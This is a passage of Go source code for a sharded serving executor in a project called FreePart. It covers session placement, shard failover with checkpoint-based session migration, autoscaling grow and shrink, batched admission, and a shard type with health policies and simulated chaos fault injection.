		weight = 1
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	id := len(e.sessions) % len(e.shards)
	placed := false
	if keyed && e.placeKey != nil {
		if p := e.placeKey(len(e.sessions), key, e.placementPoolLocked(tenant)); p >= 0 && p < len(e.shards) {
			id, placed = p, true
		}
	}
	if !placed && e.place != nil {
		if p := e.place(len(e.sessions), e.placementPoolLocked(tenant)); p >= 0 && p < len(e.shards) {
			id = p
		}
	}
	s := &Session{
		ID:     len(e.sessions),
		Tenant: tenant,
		Weight: weight,
		Key:    key,
		Keyed:  keyed,
		ex:     e,
		shard:  e.shards[id],
		bound:  make(map[string]Handle),
	}
	e.sessions = append(e.sessions, s)
	e.pinLocked(id, tenant)
	return s
}

// SessionShard returns the shard the session in slot id is currently
// pinned to, or nil for an unknown id.
func (e *Executor) SessionShard(id int) *Shard {
	e.mu.Lock()
	if id < 0 || id >= len(e.sessions) {
		e.mu.Unlock()
		return nil
	}
	s := e.sessions[id]
	e.mu.Unlock()
	return s.Shard()
}

// SessionKey returns the session key of session id and whether that session
// was opened keyed.
func (e *Executor) SessionKey(id int) (uint64, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if id < 0 || id >= len(e.sessions) {
		return 0, false
	}
	s := e.sessions[id]
	return s.Key, s.Keyed
}

// KeyedSessionsIn returns the ids of unfinished keyed sessions whose key
// falls in [lo, hi), ascending by id — the candidates a partition-rebalance
// drill migrates when it moves a key range.
func (e *Executor) KeyedSessionsIn(lo, hi uint64) []int {
	e.mu.Lock()
	sessions := append([]*Session(nil), e.sessions...)
	e.mu.Unlock()
	var out []int
	for _, s := range sessions {
		if s.Keyed && s.Key >= lo && s.Key < hi && !s.Done() {
			out = append(out, s.ID)
		}
	}
	return out
}

// Close shuts down every current shard's runtime (retired shards were
// closed when they were drained).
func (e *Executor) Close() {
	e.mu.Lock()
	shards := append([]*Shard(nil), e.shards...)
	e.mu.Unlock()
	for _, sh := range shards {
		if sh.Rt != nil {
			sh.Rt.Close()
		}
	}
}

// isCrashClass reports whether a job error means the shard (or an agent on
// it) died rather than the application failing: the failures the shard
// health window counts.
func isCrashClass(err error, sh *Shard) bool {
	if err == nil {
		return false
	}
	if errors.Is(err, ipc.ErrAgentCrashed) || errors.Is(err, ipc.ErrPeerDead) || errors.Is(err, ipc.ErrTimeout) {
		return true
	}
	return sh.Rt != nil && !sh.Rt.Host.Alive()
}

// failover drains a lost shard: it waits for in-flight work to finish,
// builds a replacement via the factory, advances the replacement onto the
// run's virtual timeline, reprovisions it (OnReplace), swaps it in, and
// migrates every pinned session — materializing each session's checkpointed
// stateful-API state from the portable log into the replacement's agents.
// Idempotent: concurrent observers of one dead shard perform one failover.
func (e *Executor) failover(old *Shard) error {
	e.failMu.Lock()
	defer e.failMu.Unlock()
	e.mu.Lock()
	replaced := old.ID >= len(e.shards) || e.shards[old.ID] != old
	e.mu.Unlock()
	if replaced {
		return nil // already replaced (or the slot was scaled in)
	}

	// Quiesce: once old.mu is held, no invocation is running on the shard
	// and none will be admitted (it is marked failed), so no checkpoint can
	// be written after its session migrates.
	old.mu.Lock()
	defer old.mu.Unlock()

	e.recordEvent(old, "drain", old.FailReason())

	repl, err := e.factory(old.ID)
	if err != nil {
		e.recordEvent(old, "replace-failed", err.Error())
		return fmt.Errorf("core: shard %d lost and replacement failed: %w", old.ID, err)
	}
	repl.Gen = old.Gen + 1
	repl.JoinedAt = old.JoinedAt
	// The replacement joins the run's timeline: available at the dead
	// shard's virtual time plus its own boot cost (its clock accumulated
	// boot work starting from zero).
	boot := repl.K.Clock.Now()
	repl.K.Clock.Observe(old.K.Clock.Now())
	repl.K.Clock.Advance(boot)
	if repl.Rt != nil {
		repl.Rt.SetCheckpointLog(e.ckpt)
	}
	e.mu.Lock()
	onReplace := e.onReplace
	e.mu.Unlock()
	if onReplace != nil {
		if perr := onReplace(repl); perr != nil {
			e.recordEvent(repl, "replace-failed", perr.Error())
			return fmt.Errorf("core: shard %d replacement provisioning: %w", old.ID, perr)
		}
	}

	e.mu.Lock()
	e.shards[old.ID] = repl
	e.retired = append(e.retired, old)
	sessions := append([]*Session(nil), e.sessions...)
	e.mu.Unlock()
	e.recordEvent(repl, "replace", fmt.Sprintf("gen %d", repl.Gen))

	for _, s := range sessions {
		if !s.pinnedTo(old) {
			continue
		}
		if s.Done() {
			// Nothing left to serve: repoint without materializing state so
			// no session ever dangles on a retired shard.
			s.repoint(repl)
			continue
		}
		if merr := s.migrate(repl); merr != nil {
			e.recordEvent(repl, "migrate-failed", fmt.Sprintf("session %d: %v", s.ID, merr))
			continue
		}
		e.recordEvent(repl, "migrate", fmt.Sprintf("session %d", s.ID))
	}

	if old.Rt != nil {
		old.Rt.Close()
	}
	return nil
}

// Grow appends one shard to the pool at virtual time `at` (the scale-up
// decision time on the run's critical path). The new shard is built by the
// retained factory under the next free slot id, joins the run's timeline at
// `at` plus its own boot cost — the same join rule as a failover
// replacement — is provisioned through the OnReplace hook, and then starts
// admitting work. Intended to be called from a control-plane reconcile
// point with no admissions racing the pool change.
func (e *Executor) Grow(at vclock.Duration) (*Shard, error) {
	e.failMu.Lock()
	defer e.failMu.Unlock()
	e.mu.Lock()
	id := len(e.shards)
	onReplace := e.onReplace
	e.mu.Unlock()

	sh, err := e.factory(id)
	if err != nil {
		return nil, fmt.Errorf("core: grow shard %d: %w", id, err)
	}
	// The factory left the shard's clock at its boot cost; the shard
	// starts booting at `at`, so it joins the timeline at at + boot.
	boot := sh.K.Clock.Now()
	sh.K.Clock.Observe(at + boot)
	sh.JoinedAt = at
	if sh.Rt != nil {
		sh.Rt.SetCheckpointLog(e.ckpt)
	}
	if onReplace != nil {
		if perr := onReplace(sh); perr != nil {
			if sh.Rt != nil {
				sh.Rt.Close()
			}
			return nil, fmt.Errorf("core: grow shard %d provisioning: %w", id, perr)
		}
	}
	e.mu.Lock()
	e.shards = append(e.shards, sh)
	n := len(e.shards)
	e.mu.Unlock()
	e.sem.setCap(n)
	e.recordEvent(sh, "grow", fmt.Sprintf("pool %d", n))
	return sh, nil
}

// MigrationPlan is a control-plane decision about where one session moves
// during a shrink: the destination slot, plus any extra virtual transfer
// cost the move pays on the destination clock (e.g. the cross-socket
// penalty of a locality-aware cost model).
type MigrationPlan struct {
	Dest  int
	Extra vclock.Duration
}

// Shrink retires the highest-slot shard — scale-in is failover without a
// corpse: the victim is quiesced, removed from the pool so no new session
// can land on it, and every session pinned to it migrates through the
// portable checkpoint log to a destination chosen by plan (least-pinned
// live shard when plan is nil). Must run from a control-plane reconcile
// point: in-flight admissions on other shards are fine, but the victim must
// be idle (the quiesce lock guarantees it, at the price of blocking until
// its current job drains).
func (e *Executor) Shrink(plan func(session int, pool []PlacementInfo) MigrationPlan) (*Shard, error) {
	e.failMu.Lock()
	defer e.failMu.Unlock()
	e.mu.Lock()
	if len(e.shards) <= 1 {
		e.mu.Unlock()
		return nil, fmt.Errorf("core: cannot shrink below one shard")
	}
	victim := e.shards[len(e.shards)-1]
	e.mu.Unlock()

	// Quiesce, then unpublish: once victim.mu is held no invocation is
	// running on it, and once it leaves e.shards no session can be placed
	// on it — any session in the snapshot below is the complete set.
	victim.mu.Lock()
	defer victim.mu.Unlock()
	e.mu.Lock()
	e.shards = e.shards[:len(e.shards)-1]
	n := len(e.shards)
	victim.retiredAt = victim.K.Clock.Now()
	e.retired = append(e.retired, victim)
	delete(e.killAt, victim.ID)
	sessions := append([]*Session(nil), e.sessions...)
	e.mu.Unlock()
	e.sem.setCap(n)
	e.recordEvent(victim, "shrink", fmt.Sprintf("pool %d", n))

	for _, s := range sessions {
		if !s.pinnedTo(victim) {
			continue
		}
		e.mu.Lock()
		pool := e.placementPoolLocked(s.Tenant)
		e.mu.Unlock()
		p := leastPinnedPlan(s.ID, pool)
		if plan != nil {
			p = plan(s.ID, pool)
		}
		if p.Dest < 0 || p.Dest >= n {
			p = leastPinnedPlan(s.ID, pool)
		}
		dest := e.Shard(p.Dest)
		if s.Done() {
			s.repoint(dest)
			continue
		}
		dest.K.Clock.Advance(p.Extra)
		if merr := s.migrate(dest); merr != nil {
			e.recordEvent(dest, "migrate-failed", fmt.Sprintf("session %d: %v", s.ID, merr))
			continue
		}
		e.recordEvent(dest, "migrate", fmt.Sprintf("session %d off shard %d", s.ID, victim.ID))
	}

	victim.fail("scaled in")
	if victim.Rt != nil {
		victim.Rt.Close()
	}
	return victim, nil
}

// leastPinnedPlan is the fallback shrink destination: fewest pinned
// sessions, lowest slot on ties, no extra transfer cost.
func leastPinnedPlan(_ int, pool []PlacementInfo) MigrationPlan {
	best := 0
	for i, p := range pool {
		if p.Sessions < pool[best].Sessions {
			best = i
		}
	}
	return MigrationPlan{Dest: pool[best].ID}
}

// MigrateSession proactively moves one session to the shard in slot dest,
// materializing its bound state there from the checkpoint log — the same
// move a failover performs, issued by the control plane against a healthy
// (merely hot) source shard. extra is added virtual transfer cost on the
// destination clock (cross-socket penalty). The source shard is quiesced
// for the duration of the move so no checkpoint write races it.
func (e *Executor) MigrateSession(session, dest int, extra vclock.Duration) error {
	e.failMu.Lock()
	defer e.failMu.Unlock()
	e.mu.Lock()
	if session < 0 || session >= len(e.sessions) {
		e.mu.Unlock()
		return fmt.Errorf("core: no session %d", session)
	}
	if dest < 0 || dest >= len(e.shards) {
		e.mu.Unlock()
		return fmt.Errorf("core: no shard slot %d", dest)
	}
	s := e.sessions[session]
	d := e.shards[dest]
	e.mu.Unlock()

	from := s.Shard()
	if from == d || s.Done() {
		return nil
	}
	from.mu.Lock()
	defer from.mu.Unlock()
	if !s.pinnedTo(from) {
		return nil // moved while we waited (failover won the race)
	}
	d.K.Clock.Advance(extra)
	if merr := s.migrate(d); merr != nil {
		e.recordEvent(d, "migrate-failed", fmt.Sprintf("session %d: %v", s.ID, merr))
		return merr
	}
	e.recordEvent(d, "rebalance", fmt.Sprintf("session %d from shard %d", s.ID, from.ID))
	return nil
}

// noteWait folds one admitted invocation's wait into the per-slot and
// per-tenant load signals (served counts only clean completions). Called
// with the subject shard's mu held (shard mu orders before executor mu).
func (e *Executor) noteWait(id int, s *Session, wait vclock.Duration, failed bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	l := e.loads[id]
	if l == nil {
		l = &shardLoad{}
		e.loads[id] = l
	}
	l.waitSum += wait
	l.waits++
	l.jobs++
	t := e.tenantLoadLocked(s.Tenant, s.Weight)
	t.waitSum += wait
	t.waits++
	if !failed {
		t.served++
		e.met.AddTenantServed(s.Tenant)
	}
}

// ShardLoads snapshots the control-plane signal: one entry per live pool
// slot, ascending by slot, with cumulative wait/job counters that survive
// failover (they key on the slot, not the incarnation).
func (e *Executor) ShardLoads() []ShardLoad {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]ShardLoad, len(e.shards))
	for i, sh := range e.shards {
		out[i] = ShardLoad{
			ID: sh.ID, Gen: sh.Gen,
			Sessions: e.pinned[sh.ID],
			Clock:    sh.K.Clock.Now(),
			JoinedAt: sh.JoinedAt,
		}
		if l := e.loads[sh.ID]; l != nil {
			out[i].WaitSum, out[i].Waits, out[i].Jobs = l.waitSum, l.waits, l.jobs
			out[i].Rejected, out[i].Shed = l.rejected, l.shed
		}
		if g := e.grays[sh.ID]; g != nil && g.gen == sh.Gen {
			out[i].Suspicion, out[i].Suspect = g.score, g.suspect
		}
	}
	return out
}

// PinnedSessions returns the ids of unfinished sessions currently pinned to
// the shard in slot id, ascending — the control plane's rebalance
// candidates.
func (e *Executor) PinnedSessions(id int) []int {
	e.mu.Lock()
	defer e.mu.Unlock()
	var out []int
	for _, s := range e.sessions {
		if !s.Done() && s.Shard().ID == id {
			out = append(out, s.ID)
		}
	}
	return out
}

// ShardSeconds integrates pool size over the virtual timeline up to end:
// every live slot contributes end − JoinedAt, and every scaled-in shard its
// actual lifetime. Failover corpses contribute nothing — their replacement
// inherited the slot's JoinedAt, so the slot's lifetime is counted once.
// This is the resource-cost denominator of the autoscaling experiment:
// latency parity at fewer shard-seconds is the win.
func (e *Executor) ShardSeconds(end vclock.Duration) vclock.Duration {
	e.mu.Lock()
	defer e.mu.Unlock()
	var sum vclock.Duration
	for _, sh := range e.shards {
		if end > sh.JoinedAt {
			sum += end - sh.JoinedAt
		}
	}
	for _, sh := range e.retired {
		if sh.retiredAt > sh.JoinedAt {
			sum += sh.retiredAt - sh.JoinedAt
		}
	}
	return sum
}

// Session is one client's stream of pipeline invocations. All of a
// session's work runs on a single shard, so a client's framework state
// (open captures, loaded models, intermediate objects) stays on one
// runtime across invocations — until that shard is lost, at which point
// the session migrates to the replacement shard with its bound stateful
// state restored from the portable checkpoint log.
type Session struct {
	// ID is the session's global open order.
	ID int
	// Tenant identifies whose traffic this session carries; Weight is the
	// tenant's weighted-fair-queueing weight. Both are fixed at open
	// (Session() opens tenant 0 / weight 1, the single-tenant default).
	Tenant int
	Weight int
	// Key is the stable session key a returning user keeps across visits;
	// Keyed reports whether the session was opened with one
	// (SessionKeyed). Both are fixed at open.
	Key   uint64
	Keyed bool
	ex    *Executor

	mu    sync.Mutex
	shard *Shard
	bound map[string]Handle
	done  bool
}

// Shard returns the shard this session is currently pinned to.
func (s *Session) Shard() *Shard {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.shard
}

// pinnedTo reports whether the session is pinned to sh.
func (s *Session) pinnedTo(sh *Shard) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.shard == sh
}

// Finish marks the session complete: it will issue no further invocations,
// so the control plane stops counting it toward shard load and skips it
// when migrating state off a drained or shrinking shard. The executor's
// pinned counts are updated in the same critical section placement
// snapshots read them under (e.mu before s.mu — the established order), so
// no placement decision ever sees a half-finished session.
func (s *Session) Finish() {
	e := s.ex
	e.mu.Lock()
	defer e.mu.Unlock()
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.done {
		return
	}
	s.done = true
	e.unpinLocked(s.shard.ID, s.Tenant)
}

// Done reports whether the session has been finished.
func (s *Session) Done() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.done
}

// repoint moves the session's pin without materializing any state — used
// for finished sessions so nothing dangles on a retired shard.
func (s *Session) repoint(to *Shard) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.shard = to
}

// Bind registers a durable stateful handle under a name. Bound handles are
// what failover migrates: after the session moves to a replacement shard,
// Bound(name) returns a handle to the same state materialized there (from
// its latest checkpoint), so the client keeps calling stateful APIs as if
// nothing happened.
func (s *Session) Bind(name string, h Handle) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.bound[name] = h
}

// Bound returns the current handle registered under name. Callers should
// re-fetch it before each use rather than caching the Handle value, since
// migration rebinds it.
func (s *Session) Bound(name string) (Handle, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	h, ok := s.bound[name]
	return h, ok
}

// migrate moves the session to shard `to`, materializing every bound
// handle's latest checkpoint into the replacement runtime. Bindings whose
// state cannot be restored keep their (now dangling) handle and surface an
// error; the session still moves — it must run somewhere. Unfinished
// sessions carry their pinned count to the destination slot (after s.mu is
// released: session mu never orders before executor mu).
func (s *Session) migrate(to *Shard) error {
	s.mu.Lock()
	var firstErr error
	names := make([]string, 0, len(s.bound))
	for name := range s.bound {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		h := s.bound[name]
		if to.Rt == nil {
			firstErr = fmt.Errorf("core: cannot restore %q onto a direct shard", name)
			continue
		}
		cp, ok := s.ex.ckpt.LatestSlot(s.ID, object.Slot(h.ref.PID, h.ref.ID))
		if !ok {
			firstErr = fmt.Errorf("core: no checkpoint for bound handle %q", name)
			continue
		}
		nh, err := to.Rt.Adopt(s.ID, cp)
		if err != nil {
			firstErr = err
			continue
		}
		s.bound[name] = nh
	}
	from := s.shard.ID
	wasDone := s.done
	s.shard = to
	s.mu.Unlock()
	if !wasDone && from != to.ID {
		s.ex.movePin(from, to.ID, s.Tenant)
	}
	return firstErr
}

// currentShard reads the session's pin.
func (s *Session) currentShard() *Shard {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.shard
}

// Do runs one pipeline invocation on the session's shard, with the arrival
// stamp taken at admission (no modeled queueing delay ahead of it). See
// DoAt.
func (s *Session) Do(job func(sh *Shard) error) error {
	return s.DoAt(-1, job)
}

// DoAt runs one pipeline invocation that arrived at the given virtual time
// on the session's shard clock. Admission is bounded by the executor's
// worker count; invocations on the same shard serialize. If the shard is
// idle past the arrival time its clock advances to the arrival (the shard
// waited for the request); if the shard is busy, the gap between arrival
// and service start is the request's admission-queue wait. The recorded
// virtual latency runs from arrival to completion — queueing plus service —
// and the wait alone is recorded in the executor's queue distribution.
//
// A negative arrival means "arrived now": the stamp is taken when the shard
// first admits the invocation, yielding zero queueing delay (the pre-PR-3
// behaviour).
//
// If the shard was lost (killed, or drained by the health policy), the
// session fails over — drain, replace, migrate — and the invocation runs on
// the replacement; a crash-class failure that trips the health threshold
// mid-invocation re-runs the invocation there too, so callers never observe
// the loss of a shard.
func (s *Session) DoAt(arrival vclock.Duration, job func(sh *Shard) error) error {
	s.ex.sem.acquire()
	defer s.ex.sem.release()

	// A negative arrival is a closed-loop request: its stamp resolves at
	// first admission and carries no client-side deadline, even across
	// failover retries. Only stamped requests hedge — the same idempotence
	// rule deadline shedding applies.
	stamped := arrival >= 0
	if hp := s.ex.hedgePolicy(); stamped && hp.active() {
		return s.doHedged(arrival, hp, job)
	}
	_, _, _, err := s.runPrimary(&arrival, job, stamped, true)
	return err
}

// runPrimary runs one invocation to completion on the session's pinned
// shard, following failovers, and returns the shard it completed on plus
// the completion time on that shard's clock and the service time alone.
// recordLat controls whether the completion records a latency sample — the
// hedged path defers that to the race winner. Caller holds a worker-pool
// slot.
func (s *Session) runPrimary(arrival *vclock.Duration, job func(sh *Shard) error, stamped, recordLat bool) (*Shard, vclock.Duration, vclock.Duration, error) {
	for {
		sh := s.currentShard()
		sh.mu.Lock()
		if sh != s.currentShard() {
			// Migrated while waiting for the shard lock.
			sh.mu.Unlock()
			continue
		}
		done, end, svc, err := s.runLocked(sh, arrival, job, stamped, recordLat)
		failed := sh.Failed()
		sh.mu.Unlock()
		if done {
			return sh, end, svc, err
		}
		if failed {
			// The shard was lost — already at admission, or under this
			// invocation: fail over and re-run on the replacement. The
			// retry keeps the original arrival, so failover time lands in
			// the tail percentiles.
			if ferr := s.ex.failover(sh); ferr != nil {
				return nil, 0, 0, ferr
			}
		}
	}
}

// runLocked runs one admitted invocation on sh; the caller holds sh.mu and
// a worker-pool slot. It returns done=false when the invocation must be
// re-run after a failover — the shard was already failed at admission, or
// it died under this invocation. *arrival resolves to "now" on first
// admission when negative and is kept across retries; stamped records
// whether the request carried a client arrival (closed-loop requests are
// exempt from deadline shedding). recordLat controls whether the completion
// records a latency sample (the hedged path records only the race winner);
// end is the completion time on sh's clock, degradation included, and svc
// the service time alone (end minus service start, no queue wait) — the
// shard-attributable latency the hedge trigger gates on.
func (s *Session) runLocked(sh *Shard, arrival *vclock.Duration, job func(sh *Shard) error, stamped, recordLat bool) (done bool, end, svc vclock.Duration, err error) {
	e := s.ex
	e.applyScheduledKill(sh)
	pol := e.healthPolicy()
	if !sh.Failed() && pol.DrainOnDegrade && sh.Rt != nil && sh.Rt.Metrics.Snapshot().Degraded > 0 {
		sh.fail("partition degraded to in-host execution")
	}
	if sh.Failed() {
		return false, 0, 0, nil
	}

	now := sh.K.Clock.Now()
	if *arrival < 0 {
		*arrival = now
	}
	if g := e.admissionGate(); g != nil {
		// Defense gate: a quarantined tenant's request is refused before
		// any overload accounting, as pure as a shed — no clock advance,
		// no checkpoint, no chaos draw.
		if gerr := g(s.Tenant, s.ID); gerr != nil {
			e.recordShed(sh, s, "quarantine", *arrival,
				fmt.Sprintf("tenant %d session %d: %v", s.Tenant, s.ID, gerr))
			return true, now, 0, gerr
		}
	}
	apol := e.admission()
	if apol.active() {
		// Overload control: reject at the queue bound, drop past the
		// deadline. A shed request runs nothing — clock, checkpoints, and
		// chaos draws are untouched, so shedding never perturbs the
		// replayable logs of the work that was admitted.
		if shed, serr := e.shedLocked(sh, s, *arrival, now, apol, stamped); shed {
			return true, now, 0, serr
		}
	}
	wait := vclock.Duration(0)
	if *arrival > now {
		sh.K.Clock.Observe(*arrival)
	} else {
		wait = now - *arrival
	}
	svcStart := sh.K.Clock.Now()
	if sh.Rt != nil {
		sh.Rt.SetSessionScope(s.ID)
	}
	jerr := job(sh)
	if sh.Rt != nil {
		sh.Rt.SetSessionScope(-1)
	}
	end = sh.K.Clock.Now()
	// Gray-failure channel: a degraded shard completes the work but takes
	// longer — the engine inflates this invocation's virtual service time
	// without failing anything, which is what makes the failure gray.
	if eng := sh.Chaos(); eng != nil {
		if extra := eng.ServiceDegradation(svcStart, end-svcStart); extra > 0 {
			sh.K.Clock.Advance(extra)
			end = sh.K.Clock.Now()
		}
	}
	sh.jobs++

	crashed := isCrashClass(jerr, sh)
	if crashed && pol.FailThreshold > 0 {
		if n := sh.recordFailure(end, pol.FailWindow); n >= pol.FailThreshold {
			sh.fail(fmt.Sprintf("%d crash-class failures in window", n))
		}
	}
	if crashed && sh.Failed() {
		return false, 0, 0, nil
	}
	if apol.active() {
		sh.noteEnd(end)
	}
	if recordLat {
		e.lat.Add(end - *arrival)
	}
	e.queue.Add(wait)
	e.noteWait(sh.ID, s, wait, jerr != nil)
	e.observeService(sh, end-svcStart, end)
	return true, end, end - svcStart, jerr
}

// BatchEntry is one invocation inside a coalesced admission batch.
type BatchEntry struct {
	// Session runs the entry; entries of one batch should share a shard.
	Session *Session
	// Arrival is the entry's arrival stamp; negative means "arrived at
	// admission".
	Arrival vclock.Duration
	// Job is the invocation body.
	Job func(sh *Shard) error
}

// DoBatch admits a coalesced batch of invocations as one unit: one
// worker-pool slot for the whole batch, and one shard-lock acquisition per
// run of consecutive entries pinned to the same shard — amortizing the
// per-invocation semaphore and lock traffic that streams of small requests
// otherwise pay. Entries execute in order; each keeps its own arrival stamp
// and records its own latency and queue wait, so batching changes admission
// cost, not measured semantics. Failover semantics match DoAt: a shard lost
// mid-batch fails over once and the remaining entries re-run on the
// replacement. Returns one error per entry.
func (e *Executor) DoBatch(entries []BatchEntry) []error {
	errs := make([]error, len(entries))
	if len(entries) == 0 {
		return errs
	}
	e.sem.acquire()
	defer e.sem.release()
	e.met.AddBatchedAdmission(len(entries))

	// Stampedness must be read before admission resolves closed-loop
	// arrivals in place.
	stamped := make([]bool, len(entries))
	for i := range entries {
		stamped[i] = entries[i].Arrival >= 0
	}
	next := 0
	for next < len(entries) {
		s := entries[next].Session
		sh := s.currentShard()
		sh.mu.Lock()
		if sh != s.currentShard() {
			sh.mu.Unlock()
			continue
		}
		// Serve as many consecutive entries pinned to sh as possible under
		// this one lock hold.
		for next < len(entries) {
			en := &entries[next]
			if en.Session.currentShard() != sh {
				break
			}
			done, _, _, err := en.Session.runLocked(sh, &en.Arrival, en.Job, stamped[next], true)
			if !done {
				break
			}
			errs[next] = err
			next++
		}
		failed := sh.Failed()
		sh.mu.Unlock()
		if failed {
			if ferr := e.failover(sh); ferr != nil {
				for ; next < len(entries); next++ {
					errs[next] = ferr
				}
			}
		}
	}
	return errs
}

// Call implements Caller on the session: a single-API invocation submitted
// through the pool. Pipelines of several calls should use Do so the whole
// invocation is admitted (and its latency measured) as one unit.
func (s *Session) Call(api string, args ...framework.Value) ([]Handle, []framework.Value, error) {
	var handles []Handle
	var plain []framework.Value
	err := s.Do(func(sh *Shard) error {
		var cerr error
		handles, plain, cerr = sh.Ex.Call(api, args...)
		return cerr
	})
	return handles, plain, err
}

// Fetch implements Caller on the session.
func (s *Session) Fetch(h Handle) ([]byte, error) {
	var out []byte
	err := s.Do(func(sh *Shard) error {
		var ferr error
		out, ferr = sh.Ex.Fetch(h)
		return ferr
	})
	return out, err
}
