package core

import (
	"errors"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/metrics"
	"freepart.dev/freepart/internal/object"
	"freepart.dev/freepart/internal/vclock"
)

// Shard is one runtime shard of the concurrent serving layer: its own
// kernel (hence its own virtual clock, filesystem, and processes) plus a
// Caller running on it — a full FreePart runtime for protected shards or a
// Direct monolith for unprotected ones. Sessions pinned to a shard execute
// serially on it, so the shard's framework state machine, agent tables,
// and temporal permissions never interleave across tenants.
type Shard struct {
	// ID is the shard's index in its executor, fixed at construction. A
	// replacement shard inherits the id of the shard it replaces.
	ID int
	// Gen is the incarnation number for this id: 0 for the original shard,
	// incremented each time failover replaces it.
	Gen int
	// K is the shard-private kernel.
	K *kernel.Kernel
	// Ex is the caller running on this shard.
	Ex Caller
	// Rt is set when Ex is a FreePart runtime; nil for direct shards.
	Rt *Runtime

	mu   sync.Mutex
	jobs uint64

	// Health state, guarded by hm (not mu: observers must not block behind a
	// running job).
	hm       sync.Mutex
	failed   bool
	reason   string
	failures []vclock.Duration
}

// Clock returns the shard's virtual clock.
func (s *Shard) Clock() *vclock.Clock { return s.K.Clock }

// Jobs reports how many invocations the shard has executed.
func (s *Shard) Jobs() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.jobs
}

// Chaos returns the fault-injection engine bound to this shard, nil when
// the shard runs without chaos (or is a direct shard).
func (s *Shard) Chaos() *chaos.Engine {
	if s.Rt != nil {
		return s.Rt.Config.Chaos
	}
	return nil
}

// Failed reports whether the shard has been marked lost (killed or drained
// by the health policy). A failed shard admits no further work.
func (s *Shard) Failed() bool {
	s.hm.Lock()
	defer s.hm.Unlock()
	return s.failed
}

// FailReason returns why the shard was marked lost.
func (s *Shard) FailReason() string {
	s.hm.Lock()
	defer s.hm.Unlock()
	return s.reason
}

// fail marks the shard lost; returns false if it already was.
func (s *Shard) fail(reason string) bool {
	s.hm.Lock()
	defer s.hm.Unlock()
	if s.failed {
		return false
	}
	s.failed = true
	s.reason = reason
	return true
}

// recordFailure logs a crash-class failure at virtual time now and returns
// how many failures fall inside the trailing window (0 = unbounded),
// mirroring the PR-1 circuit breaker's restart window one level up.
func (s *Shard) recordFailure(now, window vclock.Duration) int {
	s.hm.Lock()
	defer s.hm.Unlock()
	s.failures = append(s.failures, now)
	if window > 0 {
		keep := s.failures[:0]
		for _, t := range s.failures {
			if now-t <= window {
				keep = append(keep, t)
			}
		}
		s.failures = keep
	}
	return len(s.failures)
}

// ShardFactory builds the id-th shard of an executor. Factories must be
// deterministic: shard id in, identical shard out, so an executor built
// twice from the same factory behaves identically — and so a replacement
// shard built after failover is indistinguishable from a fresh one.
type ShardFactory func(id int) (*Shard, error)

// ProtectedShards returns a factory producing FreePart-protected shards:
// each shard is a fresh kernel with a full runtime (host, agents, policies)
// configured by cfg.
//
// Chaos is split per shard: the first shard 0 keeps cfg.Chaos itself (so a
// one-shard executor is byte-identical to the synchronous path, injection
// log included), and every other shard — replacements included — gets its
// own engine seeded by Plan.ForShard(id). One engine never serves two
// kernel clocks (Engine.Bind panics on rebinding), which keeps concurrent
// multi-shard chaos runs byte-replayable per shard.
func ProtectedShards(reg *framework.Registry, cat *analysis.Categorization, cfg Config) ShardFactory {
	var rootEngineUsed atomic.Bool
	return func(id int) (*Shard, error) {
		c := cfg
		if c.Chaos != nil && !(id == 0 && rootEngineUsed.CompareAndSwap(false, true)) {
			c.Chaos = chaos.New(c.Chaos.Plan().ForShard(id))
		}
		k := kernel.New()
		rt, err := New(k, reg, cat, c)
		if err != nil {
			return nil, fmt.Errorf("core: shard %d: %w", id, err)
		}
		return &Shard{ID: id, K: k, Ex: rt, Rt: rt}, nil
	}
}

// ChaosShards returns a protected-shard factory with an explicit per-shard,
// per-generation chaos plan — the hook tests use to force exactly one shard
// into a crash loop while the others see background-intensity faults. The
// factory counts how many times each id was built, so planOf sees gen 0 for
// the original shard and gen n for the n-th replacement: a crash-looping
// machine can be modeled as replaced by a healthy one, which is what breaks
// the crash→drain→crash cycle. Build order per id is deterministic, so the
// gen sequence replays exactly.
func ChaosShards(reg *framework.Registry, cat *analysis.Categorization, cfg Config, planOf func(id, gen int) chaos.Plan) ShardFactory {
	var mu sync.Mutex
	gens := make(map[int]int)
	return func(id int) (*Shard, error) {
		mu.Lock()
		gen := gens[id]
		gens[id]++
		mu.Unlock()
		c := cfg
		c.Chaos = chaos.New(planOf(id, gen))
		k := kernel.New()
		rt, err := New(k, reg, cat, c)
		if err != nil {
			return nil, fmt.Errorf("core: shard %d: %w", id, err)
		}
		return &Shard{ID: id, K: k, Ex: rt, Rt: rt}, nil
	}
}

// DirectShards returns a factory producing unprotected shards: each shard
// is a fresh kernel running a Direct monolith. The unprotected comparison
// point for serving-layer scaling numbers.
func DirectShards(reg *framework.Registry) ShardFactory {
	return func(id int) (*Shard, error) {
		k := kernel.New()
		return &Shard{ID: id, K: k, Ex: NewDirect(k, reg)}, nil
	}
}

// HealthPolicy configures shard-level failure handling, lifting the PR-1
// per-partition supervision policy to whole shards. The zero value disables
// health-driven drains; explicit kills (KillShard/ScheduleKill) work either
// way.
type HealthPolicy struct {
	// FailThreshold drains a shard after this many crash-class invocation
	// failures (agent crash, dead peer, timeout, dead host) inside
	// FailWindow. 0 disables the failure counter.
	FailThreshold int
	// FailWindow is the trailing virtual-time window failures are counted
	// over on the shard clock; 0 means unbounded.
	FailWindow vclock.Duration
	// DrainOnDegrade drains a shard as soon as its runtime's circuit
	// breaker has demoted any partition to in-host execution: replacement
	// restores full isolation instead of serving without it indefinitely.
	DrainOnDegrade bool
}

// FailoverEvent is one entry in the executor's replayable failover log.
